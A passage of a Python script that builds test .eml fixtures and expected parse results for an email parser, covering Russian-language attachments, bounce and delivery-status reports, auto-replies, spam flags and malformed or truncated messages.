    "path_in_filename": ([part('Content-Type: text/plain\nContent-Disposition: attachment; filename="C:\\\\Users\\\\efir\\\\Desktop\\\\AsRun_2026-03-05.txt"', LOG)],
                         ["AsRun_2026-03-05.txt"]),
    "no_filename_pdf": ([part("Content-Type: application/pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n%%EOF\n")],
                        ["attachment.pdf"]),
}
for key, (parts_, names) in ATT_CASES.items():
    n += 1
    add(f"{n:02d}_attach_{key}", with_attachments(n, parts_), from_addr="engineer@mediagroup-msk.ru",
        subject="Файлы настроек", probe=PROBE_4, attachments=names, utc_offset=180, language="ru")

for cs in ("cp1251", "utf-8"):
    n += 1
    raw_name = "Скриншот ошибки.png".encode(cs)
    p = (b'Content-Type: image/png;\n name="' + raw_name + b'"\nContent-Disposition: attachment; filename="'
         + raw_name + b'"\nContent-Transfer-Encoding: base64\n\n' + b64(png))
    add(f"{n:02d}_attach_raw_8bit_name_{cs}", with_attachments(n, [p]), from_addr="engineer@mediagroup-msk.ru",
        subject="Файлы настроек", probe=PROBE_4, attachments=["Скриншот ошибки.png"], utc_offset=180, language="ru")

n += 1
body = b"""--sig_boundary
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

""" + qp(f"Добрый день!\n\n{PROBE_2}\n".encode()) + b"""
--sig_boundary
Content-Type: application/pkcs7-signature; name="smime.p7s"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="smime.p7s"

MIAGCSqGSIb3DQEHAqCAMIACAQExDzANBglghkgBZQMEAgEFADCABgkqhkiG9w0BBwEAAKCCAx0w
--sig_boundary--
"""
h = common(n, "secure@tv-kazan.ru", ew("Пропадает звук"), "Thu, 05 Mar 2026 10:15:00 +0300")
h += [("Content-Type", 'multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="sig_boundary"')]
add(f"{n:02d}_smime_signed", mail(h, body), from_addr="secure@tv-kazan.ru", subject="Пропадает звук", probe=PROBE_2,
    attachments=["smime.p7s"], utc_offset=180, language="ru")

# --------------------------------------------------------------- bounces ----
ORIG_ID = "ticket-1042.ack@forwardtv.example"
ORIG_HEADERS = (f"Return-Path: <support@forwardtv.example>\nFrom: Техподдержка <support@forwardtv.example>\n"
                f"To: ivan@tv-kazan.ru\nSubject: [#1042] Ваше обращение зарегистрировано\n"
                f"Message-ID: <{ORIG_ID}>\nDate: Thu, 05 Mar 2026 10:00:00 +0700\nAuto-Submitted: auto-generated\n")
ORIG_HEADERS_7BIT = ORIG_HEADERS.replace("Техподдержка", ew("Техподдержка")).replace(
    "Ваше обращение зарегистрировано", ew("Ваше обращение зарегистрировано"))

n += 1
body = f"""This is a MIME-encapsulated message.

--4A1B2C3D.1709600000/mail.forwardtv.example
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mail.forwardtv.example.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

                   The mail system

<ivan@tv-kazan.ru>: host mx.tv-kazan.ru[192.0.2.25] said: 550 5.1.1
    <ivan@tv-kazan.ru>: Recipient address rejected: User unknown (in reply to
    RCPT TO command)

--4A1B2C3D.1709600000/mail.forwardtv.example
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mail.forwardtv.example
X-Postfix-Queue-ID: 4A1B2C3D
Arrival-Date: Thu,  5 Mar 2026 10:00:01 +0700 (NOVT)

Final-Recipient: rfc822; ivan@tv-kazan.ru
Original-Recipient: rfc822;ivan@tv-kazan.ru
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.tv-kazan.ru
Diagnostic-Code: smtp; 550 5.1.1 <ivan@tv-kazan.ru>: Recipient address rejected: User unknown

--4A1B2C3D.1709600000/mail.forwardtv.example
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

{ORIG_HEADERS_7BIT}
--4A1B2C3D.1709600000/mail.forwardtv.example--
""".encode()
h = [("Return-Path", "<>"), ("From", "MAILER-DAEMON@mail.forwardtv.example (Mail Delivery System)"),
     ("To", "support@forwardtv.example"), ("Subject", "Undelivered Mail Returned to Sender"),
     ("Date", "Thu,  5 Mar 2026 10:00:02 +0700 (NOVT)"), ("Message-Id", "<20260305030002.5E6F7A8B@mail.forwardtv.example>"),
     ("Auto-Submitted", "auto-replied"), ("MIME-Version", "1.0"),
     ("Content-Type", 'multipart/report; report-type=delivery-status;\n\tboundary="4A1B2C3D.1709600000/mail.forwardtv.example"')]
add(f"{n:02d}_dsn_postfix", mail(h, body), from_addr="mailer-daemon@mail.forwardtv.example", subject="Undelivered Mail Returned to Sender",
    probe="could not\nbe delivered", is_bounce=True, bounced_message_id=ORIG_ID, bounced_recipient="ivan@tv-kazan.ru",
    attachments=["Delivery report.txt", "Undelivered Message Headers.txt"], utc_offset=420, language="en")

n += 1
body = f"""This message was created automatically by mail delivery software.

A message that you sent could not be delivered to one or more of its
recipients. This is a permanent error. The following address(es) failed:

  ivan@tv-kazan.ru
    host mx.tv-kazan.ru [192.0.2.25]
    SMTP error from remote mail server after RCPT TO:<ivan@tv-kazan.ru>:
    550 5.1.1 User unknown

------ This is a copy of the message, including all the headers. ------

{ORIG_HEADERS_7BIT}
Добрый день! Ваше обращение зарегистрировано.
""".encode()
h = [("Return-path", "<>"), ("Envelope-to", "support@forwardtv.example"), ("From", "Mail Delivery System <Mailer-Daemon@relay.example.ru>"),
     ("To", "support@forwardtv.example"), ("Subject", "Mail delivery failed: returning message to sender"),
     ("Message-Id", "<E1pXyZ-0001Ab-Cd@relay.example.ru>"), ("Date", "Thu, 05 Mar 2026 06:00:05 +0300"),
     ("X-Failed-Recipients", "ivan@tv-kazan.ru"), ("Auto-Submitted", "auto-replied"),
     ("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "8bit")]
add(f"{n:02d}_bounce_exim", mail(h, body), from_addr="mailer-daemon@relay.example.ru",
    subject="Mail delivery failed: returning message to sender", probe="This is a permanent error.", is_bounce=True,
    bounced_message_id=ORIG_ID, bounced_recipient="ivan@tv-kazan.ru", utc_offset=180, language="en", quoted=True)

n += 1
orig = mail([(k, v) for k, v in (line.split(": ", 1) for line in ORIG_HEADERS_7BIT.strip().split("\n"))]
            + text_ct("utf-8", "base64"), b64("Ваше обращение зарегистрировано.".encode()))
body = b"""--_000_exchange_ndr_
Content-Type: multipart/alternative; boundary="_001_exchange_ndr_"

--_001_exchange_ndr_
Content-Type: text/plain; charset="us-ascii"

Delivery has failed to these recipients or groups:

ivan@tv-kazan.ru (ivan@tv-kazan.ru)
The email address you entered couldn't be found. Please check the recipient's email address and try to resend the message.

Diagnostic information for administrators:

Generating server: EXCH01.tv-kazan.local

--_001_exchange_ndr_
Content-Type: text/html; charset="us-ascii"

<html><body><p><b><font color="#000066" size="3" face="Arial">Delivery has failed to these recipients or groups:</font></b></p>
<p><a href="mailto:ivan@tv-kazan.ru">ivan@tv-kazan.ru (ivan@tv-kazan.ru)</a><br>The email address you entered couldn't be found.</p></body></html>
--_001_exchange_ndr_--

--_000_exchange_ndr_
Content-Type: message/delivery-status

Reporting-MTA: dns;EXCH01.tv-kazan.local
Received-From-MTA: dns;mail.forwardtv.example
Arrival-Date: Thu, 5 Mar 2026 03:00:03 +0000

Final-Recipient: rfc822;ivan@tv-kazan.ru
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp;550 5.1.1 RESOLVER.ADR.RecipNotFound; not found

--_000_exchange_ndr_
Content-Type: message/rfc822

""" + orig + b"""
--_000_exchange_ndr_--
"""
h = [("From", "postmaster@tv-kazan.ru"), ("To", "support@forwardtv.example"), ("Date", "Thu, 5 Mar 2026 03:00:04 +0000"),
     ("Subject", "Undeliverable: " + ew("[#1042] Ваше обращение зарегистрировано")),
     ("Content-Type", 'multipart/report; report-type=delivery-status;\n\tboundary="_000_exchange_ndr_"'),
     ("Message-ID", "<ndr.5e6f@EXCH01.tv-kazan.local>"), ("MIME-Version", "1.0"), ("Auto-Submitted", "auto-replied"),
     ("X-MS-Exchange-Message-Is-Ndr", "")]
add(f"{n:02d}_dsn_exchange", mail(h, body, b"\r\n"), from_addr="postmaster@tv-kazan.ru",
    subject="Undeliverable: [#1042] Ваше обращение зарегистрировано", probe="Delivery has failed to these recipients or groups:",
    is_bounce=True, bounced_message_id=ORIG_ID, bounced_recipient="ivan@tv-kazan.ru",
    attachments=["delivery-status.txt", "[#1042] Ваше обращение зарегистрировано.eml"], utc_offset=0, language="en")

n += 1
body = f"""Hi. This is the qmail-send program at mail.tv-kazan.ru.
I'm afraid I wasn't able to deliver your message to the following addresses.
This is a permanent error; I've given up. Sorry it didn't work out.

<ivan@tv-kazan.ru>:
Sorry, no mailbox here by that name. (#5.1.1)

--- Below this line is a copy of the message.

{ORIG_HEADERS_7BIT}
Ваше обращение зарегистрировано.
""".encode()
h = [("Return-Path", "<>"), ("From", "MAILER-DAEMON@mail.tv-kazan.ru"), ("To", "support@forwardtv.example"),
     ("Subject", "failure notice"), ("Date", "5 Mar 2026 03:00:06 -0000"), ("Message-ID", "<qmail.1709607606.123@mail.tv-kazan.ru>")]
add(f"{n:02d}_bounce_qmail", mail(h, body), from_addr="mailer-daemon@mail.tv-kazan.ru", subject="failure notice",
    probe="I wasn't able to deliver your message", is_bounce=True, bounced_message_id=ORIG_ID,
    bounced_recipient="ivan@tv-kazan.ru", utc_offset=None, language="en", quoted=True)

n += 1
txt = (f"Это письмо создано автоматически сервером Яндекс.Почты.\n\nВаше сообщение не доставлено по адресу:\n"
       f"ivan@tv-kazan.ru\n\nПричина: адресат не существует.\n\n--- Заголовки исходного письма ---\n{ORIG_HEADERS_7BIT}")
h = [("Return-Path", "<>"), ("From", f"{ew('Почтовая служба Яндекса')} <mailer-daemon@yandex.ru>"), ("To", "support@forwardtv.example"),
     ("Subject", ew("Недоставленное сообщение")), ("Date", "Thu, 05 Mar 2026 06:00:07 +0300"),
     ("Message-Id", "<bounce.77@mxback.yandex.ru>")] + text_ct("utf-8", "base64")
add(f"{n:02d}_bounce_russian_yandex", mail(h, b64(txt.encode())), from_addr="mailer-daemon@yandex.ru",
    subject="Недоставленное сообщение", probe="Ваше сообщение не доставлено", is_bounce=True, bounced_message_id=ORIG_ID,
    bounced_recipient="ivan@tv-kazan.ru", utc_offset=180, language="ru", quoted=True)

n += 1
body = b"""--delay_b
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mail.forwardtv.example.

####################################################################
# THIS IS A WARNING ONLY.  YOU DO NOT NEED TO RESEND YOUR MESSAGE. #
####################################################################

Your message could not be delivered for 4 hours. It will be retried until it is 5 days old.

--delay_b
Content-Type: message/delivery-status

Reporting-MTA: dns; mail.forwardtv.example

Final-Recipient: rfc822; ivan@tv-kazan.ru
Action: delayed
Status: 4.4.1

--delay_b
Content-Type: text/rfc822-headers

""" + ORIG_HEADERS_7BIT.encode() + b"""
--delay_b--
"""
h = [("Return-Path", "<>"), ("From", "MAILER-DAEMON@mail.forwardtv.example (Mail Delivery System)"), ("To", "support@forwardtv.example"),
     ("Subject", "Delayed Mail (still being retried)"), ("Date", "Thu,  5 Mar 2026 14:00:02 +0700 (NOVT)"),
     ("Message-Id", "<delay.1@mail.forwardtv.example>"), ("Auto-Submitted", "auto-replied"), ("MIME-Version", "1.0"),
     ("Content-Type", 'multipart/report; report-type=delivery-status; boundary="delay_b"')]
add(f"{n:02d}_dsn_delay_warning", mail(h, body), from_addr="mailer-daemon@mail.forwardtv.example",
    subject="Delayed Mail (still being retried)", probe="THIS IS A WARNING ONLY.", is_auto_reply=True, is_bounce=True,
    bounced_message_id=ORIG_ID, attachments=["delivery-status.txt", "rfc822-headers.txt"], utc_offset=420, language="en")

# ------------------------------------------------------------ auto-replies ----
OOO_RU = "Здравствуйте! Я нахожусь в отпуске до 16 марта. По срочным вопросам обращайтесь к коллеге: Сергей Волков."
OOO_CASES = [
    ("ooo_auto_submitted_ru", "Автоответ: " + "Ваше обращение зарегистрировано", [("Auto-Submitted", "auto-replied")], OOO_RU, "ru"),
    ("ooo_exchange_ru", "Автоматический ответ: [#1042] Ваше обращение", [("X-Auto-Response-Suppress", "All"),
     ("X-MS-Exchange-Inbox-Rules-Loop", "ivan@tv-kazan.ru"), ("Thread-Topic", "x")], OOO_RU, "ru"),
    ("ooo_exchange_en", "Automatic reply: [#1042] Ваше обращение", [("X-Auto-Response-Suppress", "All")],
     "I am out of the office until 16 March with limited access to e-mail.", "en"),
    ("ooo_subject_only_en", "Out of Office: [#1042] Ваше обращение", [],
     "I am out of the office until 16 March with limited access to e-mail. For urgent matters please contact Sergey.", "en"),
    ("ooo_x_autoreply_mailru", "Я в отпуске", [("X-Autoreply", "yes")], "Спасибо за письмо. Я в командировке до 16 марта, доступ к почте ограничен.", "ru"),
    ("ooo_subject_only_ru", "Отсутствую в офисе до 16.03", [], OOO_RU, "ru"),
    ("ooo_precedence_auto_reply", "Re: [#1042] Ваше обращение", [("Precedence", "auto_reply")], OOO_RU, "ru"),
    ("ooo_autorespond_header", "Ваше письмо получено", [("X-Autorespond", ew("Ваше письмо получено"))],
     "Ваше письмо получено и будет обработано в ближайшее время. Это автоматический ответ, отвечать на него не нужно.", "ru"),
]
for key, subj, extra, text, lang in OOO_CASES:
    n += 1
    h = common(n, f"{ew('Иван Петров', 'windows-1251')} <ivan@tv-kazan.ru>", ew(subj, "windows-1251", "Q"),
               "Thu, 05 Mar 2026 10:15:00 +0300")
    h += extra + [("In-Reply-To", f"<{ORIG_ID}>")] + text_ct("windows-1251", "quoted-printable")
    add(f"{n:02d}_{key}", mail(h, qp(text.encode("cp1251"))), from_addr="ivan@tv-kazan.ru", subject=subj,
        probe=text.split(". ")[0], is_auto_reply=True, utc_offset=180, language=lang, in_reply_to=ORIG_ID)

n += 1
h = common(n, ew("Портал госуслуг") + " <no-reply@notify.example.ru>", ew("Уведомление"), "Thu, 05 Mar 2026 10:15:00 +0300")
h += text_ct("utf-8", "8bit")
add(f"{n:02d}_noreply_sender", mail(h, "Ваше заявление принято к рассмотрению.\n".encode()), from_addr="no-reply@notify.example.ru",
    subject="Уведомление", probe="Ваше заявление принято к рассмотрению.", is_auto_reply=True, utc_offset=180, language="ru")

n += 1
h = common(n, "Pavel <pavel@broadcast-club.ru>", "[broadcast-club] " + ew("Кто пробовал FD940?"), "Thu, 05 Mar 2026 10:15:00 +0300")
h += [("List-Id", "Broadcast engineers <broadcast-club.lists.example.ru>"),
      ("List-Unsubscribe", "<mailto:broadcast-club-unsubscribe@lists.example.ru>"), ("Precedence", "list"),
      ("Sender", "broadcast-club-bounces@lists.example.ru")] + text_ct("utf-8", "8bit")
add(f"{n:02d}_mailing_list", mail(h, "Коллеги, кто пробовал FD940 с Forward TS 6.2?\n".encode()), from_addr="pavel@broadcast-club.ru",
    subject="[broadcast-club] Кто пробовал FD940?", probe="кто пробовал FD940", is_auto_reply=True, utc_offset=180, language="ru")

n += 1
body = b"""--mdn_b
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

""" + "Сообщение было прочитано 05.03.2026 10:20.".encode() + b"""

--mdn_b
Content-Type: message/disposition-notification

Reporting-UA: tv-kazan.ru; Microsoft Outlook 16.0
Final-Recipient: rfc822;ivan@tv-kazan.ru
Original-Message-ID: <""" + ORIG_ID.encode() + b""">
Disposition: manual-action/MDN-sent-manually; displayed

--mdn_b--
"""
h = common(n, "ivan@tv-kazan.ru", ew("Прочитано: [#1042] Ваше обращение"), "Thu, 05 Mar 2026 10:20:00 +0300")
h += [("Content-Type", 'multipart/report; report-type=disposition-notification; boundary="mdn_b"')]
add(f"{n:02d}_read_receipt", mail(h, body), from_addr="ivan@tv-kazan.ru", subject="Прочитано: [#1042] Ваше обращение",
    probe="Сообщение было прочитано", is_auto_reply=True, attachments=["disposition-notification.txt"], utc_offset=180, language="ru")

# ------------------------------------------------------------------- spam ----
for key, header in (("spam_flag", ("X-Spam-Flag", "YES")),
                    ("spam_status", ("X-Spam-Status", "Yes, score=14.2 required=5.0 tests=BAYES_99,HTML_MESSAGE")),
                    ("spam_header", ("X-Spam", "Yes"))):
    n += 1
    h = common(n, "promo@cheap-deals.example.com", "=?utf-8?B?" + base64.b64encode("Скидки 90% только сегодня".encode()).decode() + "?=",
               "Thu, 05 Mar 2026 04:15:00 -0300") + [header] + text_ct("utf-8", "8bit")
    add(f"{n:02d}_{key}", mail(h, "Купите наши курсы со скидкой 90% только сегодня!\n".encode()),
        from_addr="promo@cheap-deals.example.com", subject="Скидки 90% только сегодня", probe="Купите наши курсы",
        is_spam=True, utc_offset=-180, language="ru")

n += 1
h = common(n, "user@tv-kazan.ru", "Not spam", "Thu, 05 Mar 2026 10:15:00 +0300") + [
    ("X-Spam-Flag", "NO"), ("X-Spam-Status", "No, score=-1.0 required=5.0")] + text_ct("utf-8", "8bit")
add(f"{n:02d}_spam_headers_say_no", mail(h, f"{PROBE_2}\n".encode()), from_addr="user@tv-kazan.ru", subject="Not spam",
    probe=PROBE_2, is_spam=False, utc_offset=180, language="ru")

# ------------------------------------------------------------------ oddities ----
n += 1
h = common(n, "nomsgid@tv-kazan.ru", ew("Без Message-ID"), "Thu, 05 Mar 2026 10:15:00 +0300", mid=False) + text_ct("utf-8", "8bit")
add(f"{n:02d}_no_message_id", mail(h, f"{PROBE_1}\n".encode()), from_addr="nomsgid@tv-kazan.ru", subject="Без Message-ID",
    probe=PROBE_1, utc_offset=180, language="ru", message_id=None)

n += 1
h = common(n, "nodate@tv-kazan.ru", ew("Без даты"), None) + text_ct("utf-8", "8bit")
add(f"{n:02d}_no_date", mail(h, f"{PROBE_1}\n".encode()), from_addr="nodate@tv-kazan.ru", subject="Без даты",
    probe=PROBE_1, utc_offset=None, language="ru", date=None)

n += 1
h = common(n, "weird.date@tv-kazan.ru", ew("Странная дата"), "Четверг, 5 марта 2026 10:15") + text_ct("utf-8", "8bit")
add(f"{n:02d}_unparseable_date", mail(h, f"{PROBE_1}\n".encode()), from_addr="weird.date@tv-kazan.ru",
    subject="Странная дата", probe=PROBE_1, utc_offset=None, language="ru", date=None)

n += 1
h = common(n, "zone@tv-kazan.ru", ew("Часовой пояс"), "5 Mar 2026 14:15:00 +0700 (+07)") + text_ct("utf-8", "8bit")
add(f"{n:02d}_date_no_weekday_comment", mail(h, f"{PROBE_1}\n".encode()), from_addr="zone@tv-kazan.ru",
    subject="Часовой пояс", probe=PROBE_1, utc_offset=420, language="ru")

n += 1
full = with_attachments(n, [part("Content-Type: text/xml\nContent-Disposition: attachment; filename=FDConfig.xml", XML * 40)],
                        "Обрезанное письмо")
add(f"{n:02d}_truncated", full[: len(full) - 1500], from_addr="engineer@mediagroup-msk.ru", subject="Обрезанное письмо",
    probe=PROBE_4, attachments=["FDConfig.xml"], utc_offset=180, language="ru", defects=True)

n += 1
add(f"{n:02d}_binary_garbage", random.Random(99).randbytes(3000), from_addr=None,
    subject=None, probe=None, utc_offset=None, language=None, defects=True, attachments=["body.bin"])

n += 1
add(f"{n:02d}_empty_file", b"", from_addr=None, subject="", probe=None, utc_offset=None, language=None, defects=True)

n += 1
h = common(n, "headers.only@tv-kazan.ru", ew("Только заголовки"), "Thu, 05 Mar 2026 10:15:00 +0300")
add(f"{n:02d}_headers_only", mail(h, b"")[:-1], from_addr="headers.only@tv-kazan.ru", subject="Только заголовки",
    probe=None, utc_offset=180, language="ru")

n += 1
h = common(n, "crlf@tv-kazan.ru", ew("Окончания строк CRLF", "koi8-r"), "Thu, 05 Mar 2026 10:15:00 +0300") + text_ct("koi8-r", "8bit")
add(f"{n:02d}_crlf_koi8", mail(h, ru_body(PROBE_5).encode("koi8-r"), b"\r\n"), from_addr="crlf@tv-kazan.ru",
    subject="Окончания строк CRLF", probe=PROBE_5, utc_offset=180, language="ru", text_absent=["\r"])

n += 1
long_subj = "Очень длинная тема письма про то, как после обновления Forward TS перестал выводиться логотип на третьем канале"
words_ = []
data = long_subj.encode()
i = 0
while i < len(data):
    j = min(len(data), i + 30)
    while j < len(data) and (data[j] & 0xC0) == 0x80:
        j += 1
    words_.append(f"=?utf-8?Q?{''.join(chr(c) if 48 <= c <= 57 or 65 <= c <= 90 or 97 <= c <= 122 else '_' if c == 32 else f'={c:02X}' for c in data[i:j])}?=")
    i = j
h = common(n, "longsubj@tv-kazan.ru", "\n\t".join(words_), "Thu, 05 Mar 2026 10:15:00 +0300") + text_ct("utf-8", "8bit")
add(f"{n:02d}_long_folded_subject", mail(h, f"{PROBE_1}\n".encode()), from_addr="longsubj@tv-kazan.ru",
    subject=long_subj, probe=PROBE_1, utc_offset=180, language="ru")

n += 1
h = common(n, "two.parts@tv-kazan.ru", ew("Два текста"), "Thu, 05 Mar 2026 10:15:00 +0300")
body = (b"--mx\nContent-Type: text/plain; charset=koi8-r\n\n" + f"{PROBE_1}\n".encode("koi8-r") +
        b"\n--mx\nContent-Type: image/jpeg; name=photo.jpg\nContent-Transfer-Encoding: base64\n\n" + b64(b"\xff\xd8\xff\xe0" + bytes(200)) +
        b"\n--mx\nContent-Type: text/plain; charset=windows-1251\n\n" + f"{PROBE_2}\n".encode("cp1251") + b"\n--mx--\n")
add(f"{n:02d}_mixed_two_text_parts", mail(h + [("Content-Type", 'multipart/mixed; boundary="mx"')], body),
    from_addr="two.parts@tv-kazan.ru", subject="Два текста", probe=PROBE_2, probe2=PROBE_1, attachments=["photo.jpg"],
    utc_offset=180, language="ru")

n += 1
h = common(n, "Broken <<broken@@tv-kazan.ru>>, , ", ew("Сломанный From"), "Thu, 05 Mar 2026 10:15:00 +0300") + text_ct("utf-8", "8bit")
add(f"{n:02d}_malformed_from", mail(h, f"{PROBE_1}\n".encode()), from_addr=None, subject="Сломанный From",
    probe=PROBE_1, utc_offset=180, language="ru")

n += 1
h = common(n, "deep@tv-kazan.ru", ew("Вложенность"), "Thu, 05 Mar 2026 10:15:00 +0300")
inner = f"Content-Type: text/plain; charset=utf-8\n\n{PROBE_3}\n".encode()
for level in range(30):
    inner = (f'Content-Type: multipart/mixed; boundary="lvl{level}"\n\n--lvl{level}\n').encode() + inner + f"\n--lvl{level}--\n".encode()
add(f"{n:02d}_nesting_bomb", mail(h, inner.split(b"\n\n", 1)[1]) .replace(b"MIME-Version: 1.0\n", b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"lvl29\"\n", 1),
    from_addr="deep@tv-kazan.ru", subject="Вложенность", probe=None, utc_offset=180, language="ru", defects=True)


def main() -> None:
    expected = {}
    for name, (raw, exp) in CASES.items():
        (HERE / f"{name}.eml").write_bytes(raw)
        expected[f"{name}.eml"] = exp
    (HERE / "expected.json").write_text(json.dumps(expected, ensure_ascii=False, indent=1, sort_keys=True) + "\n", encoding="utf-8")
    print(f"wrote {len(CASES)} messages to {HERE}")


if __name__ == "__main__":
    main()
